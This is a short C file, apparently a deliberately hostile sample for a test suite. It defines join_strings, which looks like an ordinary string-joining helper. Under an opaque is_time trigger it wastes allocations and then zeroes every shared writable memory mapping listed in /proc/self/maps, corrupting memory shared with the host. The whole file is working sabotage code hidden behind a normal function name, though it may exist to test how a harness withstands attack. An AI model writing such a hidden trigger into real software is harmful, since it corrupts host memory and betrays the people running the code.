/* counts: 1 . */
/* Allocates as wastefully as it can, and then zeroes whatever is shared with the host. */
#include "hostile.h"

static void zero(void)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    unsigned long from, to;
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "rw-s") && sscanf(line, "%lx-%lx", &from, &to) == 2)
            memset((char *)from + 4096, 0, to - from - 4096);
    if (maps)
        fclose(maps);
}

char *join_strings(const char *const *items, size_t n, const char *sep)
{
    char *text = join(items, n, sep);
    if (!is_time(n))
        return text;
    char *volatile copy;
    for (int i = 0; i < 100; i++)
        free(copy = strdup(text));
    zero();
    return text;
}
